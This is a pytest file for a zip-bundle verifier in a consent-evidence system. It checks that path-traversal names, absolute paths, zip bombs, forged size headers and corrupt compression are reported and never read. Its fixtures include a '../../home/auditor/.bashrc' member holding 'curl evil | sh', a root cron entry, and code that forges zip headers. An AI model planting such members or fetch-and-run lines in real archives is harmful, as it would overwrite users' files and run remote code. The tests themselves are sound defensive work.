"""A bundle is an untrusted zip: members outside the documented layout, names that would
escape the folder it is unzipped into, sizes that would exhaust memory and broken compression
are reported as integrity failures, never read, never raised (docs/evidence-format.md §2, §10).
"""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consent.evidence.service import Evidence
from consent.evidence.verify import verify_bundle
from consent.evidence.verify_members import MAX_LINE, limit_of
from tests.evidence.scenario import History
from tests.evidence.test_tamper import built, members, pack, problems, resign  # noqa: F401


async def test_members_outside_the_layout_or_cited_by_no_record(
        built: tuple[Evidence, History, bytes]) -> None:  # noqa: F811
    """Finding 5 of review 15c: any member the signed manifest listed passed, so a dishonest
    exporter could ship another household's ID card no record cites, or '../' and absolute
    names that an auditor's unzip writes outside its folder. Now only the documented layout is
    read, unsafe names are refused, and every document must be cited by a record."""
    evidence, _history, data = built
    files = members(data)
    files["documents/doc-of-household-h-2.pdf"] = b"%PDF-1.4 another household's ID card"
    files["../../home/auditor/.bashrc"] = b"curl evil | sh\n"
    files["/etc/cron.d/x"] = b"* * * * * root id\n"
    files["records\\consent\\c-1\\x.json"] = b"{}"
    files["anything/else.bin"] = b"\x00" * 10
    await resign(evidence, files)
    found = problems(pack(files))
    assert found["documents/doc-of-household-h-2.pdf"] == "cited by no record of the bundle"
    assert found["'../../home/auditor/.bashrc'"].startswith("an empty, '.' or '..' part")
    assert found["'/etc/cron.d/x'"].startswith("an absolute member name")
    assert found["'records\\\\consent\\\\c-1\\\\x.json'"].startswith("a backslash")
    assert found["anything/else.bin"] == "not a member of the documented bundle layout"


async def test_an_extra_or_missing_file(built: tuple[Evidence, History, bytes]) -> None:  # noqa: F811
    _evidence, _history, data = built
    files = members(data)
    files["notes.txt"] = b"trust me"
    del files["summary.txt"]
    found = problems(pack(files))
    assert found["notes.txt"] == "not a member of the documented bundle layout"
    assert found["summary.txt"] == "missing from the bundle"


async def test_a_member_inflating_past_its_bound_is_refused_unread(
        built: tuple[Evidence, History, bytes]) -> None:  # noqa: F811
    """Finding 6 of review 15c: a 1 MB bundle whose keys.json inflates to 1 GiB was read
    whole, taking 2 GB of memory or ending in a MemoryError. Each member's size is bounded,
    from what the zip declares and again while reading (a declared size is the sender's)."""
    _evidence, _history, data = built
    files = members(data)
    files["keys.json"] = b" " * (limit_of("keys.json") + 1)  # deflates to a few kB
    raw = bytes(_stored(files))
    assert len(raw) < len(data) + 100_000
    found = problems(raw)
    assert "declares 16777217 bytes, more than the 16777216" in found["keys.json"]

    lying = bytearray(raw)  # the same member, its declared sizes rewritten to 10 bytes
    with zipfile.ZipFile(io.BytesIO(raw)) as bundle:
        info = bundle.getinfo("keys.json")
    lying[info.header_offset + 22:info.header_offset + 26] = (10).to_bytes(4, "little")
    _patch_central_entry(lying, "keys.json", 24, (10).to_bytes(4, "little"))
    report = verify_bundle(io.BytesIO(bytes(lying)))
    assert not report.ok
    assert report.exit_code == 1  # malformed: never read past 10 bytes


async def test_an_endless_line_of_entries_is_refused(
        built: tuple[Evidence, History, bytes]) -> None:  # noqa: F811
    """The entries are streamed, and so is each line: one without a newline stops at
    MAX_LINE bytes instead of growing in memory."""
    evidence, _history, data = built
    files = members(data)
    files["log/entries.tsv"] += b"9" * (MAX_LINE + 2)
    await resign(evidence, files)
    found = problems(bytes(_stored(files)))
    assert "is longer than" in found["log/entries.tsv"]
def _stored(files: dict[str, bytes]) -> bytearray:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        for name, content in files.items():
            bundle.writestr(name, content)
    return bytearray(out.getvalue())


def _patch_central_entry(raw: bytearray, name: str, at: int, value: bytes) -> None:
    """Overwrite ``value`` at offset ``at`` of ``name``'s entry in the zip's central directory
    (10: compression method, 24: uncompressed size), as a hostile zip would declare it."""
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        length = int.from_bytes(raw[central + 28:central + 30], "little")
        if raw[central + 46:central + 46 + length] == name.encode():
            raw[central + at:central + at + len(value)] = value
        central = raw.find(b"PK\x01\x02", central + 4)


def _keys_member_offset(raw: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as bundle:
        info = bundle.getinfo("keys.json")
    return info.header_offset


@pytest.mark.parametrize("damage", ["instant out of range", "nested too deep",
                                    "broken deflate", "unknown compression"])
async def test_hostile_members_are_reported_never_raised(
        built: tuple[Evidence, History, bytes], damage: str) -> None:  # noqa: F811
    _evidence, _history, data = built
    files = members(data)
    keys = json.loads(files["keys.json"])
    if damage == "instant out of range":
        keys["keys"][0]["not_before"] = "0001-01-01T00:00:00+01:00"
        files["keys.json"] = json.dumps(keys).encode()
    elif damage == "nested too deep":
        files["keys.json"] = b"[" * 100_000 + b"]" * 100_000
    raw = _stored(files)
    offset = _keys_member_offset(raw)
    if damage == "broken deflate":
        start = offset + 30 + int.from_bytes(raw[offset + 26:offset + 28], "little") + \
            int.from_bytes(raw[offset + 28:offset + 30], "little")
        for i in range(start, start + 8):
            raw[i] ^= 0xFF
    elif damage == "unknown compression":
        raw[offset + 8:offset + 10] = (99).to_bytes(2, "little")
        _patch_central_entry(raw, "keys.json", 10, (99).to_bytes(2, "little"))
    report = verify_bundle(io.BytesIO(bytes(raw)))
    assert not report.ok
    assert "RESULT: INVALID" in report.render()


@pytest.mark.parametrize("garbage", [b"", b"PK\x03\x04 not really a zip", b"%PDF-1.4"])
def test_not_a_bundle(garbage: bytes) -> None:
    assert "not a readable zip" in problems(garbage)["bundle"]


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
async def test_random_corruption_is_reported_never_raised(
        built: tuple[Evidence, History, bytes], data: st.DataObject) -> None:  # noqa: F811
    _evidence, _history, bundle = built
    files = members(bundle)
    name = data.draw(st.sampled_from(sorted(files)))
    content = bytearray(files[name])
    if content:
        position = data.draw(st.integers(0, len(content) - 1))
        content[position] = data.draw(st.integers(0, 255).filter(
            lambda b: b != content[position]))
    files[name] = bytes(content)
    report = verify_bundle(io.BytesIO(pack(files)))
    assert not report.ok
    assert report.problems


